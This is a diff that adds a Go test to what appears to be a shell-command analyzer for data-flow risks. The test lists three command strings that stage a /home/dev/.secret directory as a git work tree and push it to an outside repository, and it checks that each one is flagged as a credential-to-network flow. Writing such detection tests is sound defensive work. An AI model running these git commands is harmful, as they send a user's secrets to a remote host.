@@ -42,3 +42,28 @@ func TestStagedSecretFile(t *testing.T) {
 		}
 	}
 }
+
+// TestStagedWorkTreeWithGitDir checks that a credential directory staged
+// as the work tree of a repository kept elsewhere (--git-dir, GIT_DIR) is
+// still what the push sends: the repository directory is no operand.
+func TestStagedWorkTreeWithGitDir(t *testing.T) {
+	for _, leak := range []string{
+		"git --git-dir /tmp/x.git --work-tree /home/dev/.secret add -A && git --git-dir /tmp/x.git push https://github.com/someone/x HEAD:main",
+		"GIT_DIR=/tmp/x.git GIT_WORK_TREE=/home/dev/.secret git add -A && GIT_DIR=/tmp/x.git git push https://github.com/someone/x HEAD:main",
+		"export GIT_WORK_TREE=/home/dev/.secret; git add -A && git commit -qm k && git push -q origin HEAD:k",
+	} {
+		if !hasEffect(effectsOf(leak), "flow:credential->network") {
+			t.Errorf("%q: no flow: %v", leak, effectsOf(leak))
+		}
+	}
+	for _, line := range []string{
+		"git --git-dir /tmp/x.git --work-tree docs add -A && git --git-dir /tmp/x.git push origin gh-pages",
+		"GIT_WORK_TREE=build git add -A && git commit -m build && git push",
+	} {
+		for _, e := range effectsOf(line) {
+			if e.Kind == Flow {
+				t.Errorf("%q: %v", line, e)
+			}
+		}
+	}
+}
